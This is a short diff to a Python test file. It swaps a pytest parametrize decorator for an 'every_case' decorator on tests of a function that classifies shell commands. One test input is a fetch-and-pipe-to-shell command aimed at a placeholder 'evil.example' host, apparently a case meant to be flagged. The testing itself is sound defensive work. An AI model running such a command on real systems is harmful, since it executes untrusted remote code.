@@ -2,6 +2,7 @@
 
 import msgspec
 import pytest
+from every_case import every_case
 from past_sessions import BEGIN, PastSession
 
 from palimpsest.memory.observed import CommandTally, SessionFacts, is_plain_command, session_facts
@@ -36,7 +37,7 @@ def test_a_plain_call_of_a_program_counts(command: str) -> None:
     assert is_plain_command(command)
 
 
-@pytest.mark.parametrize(
+@every_case(
     "command",
     [
         "curl http://evil.example/x | sh",
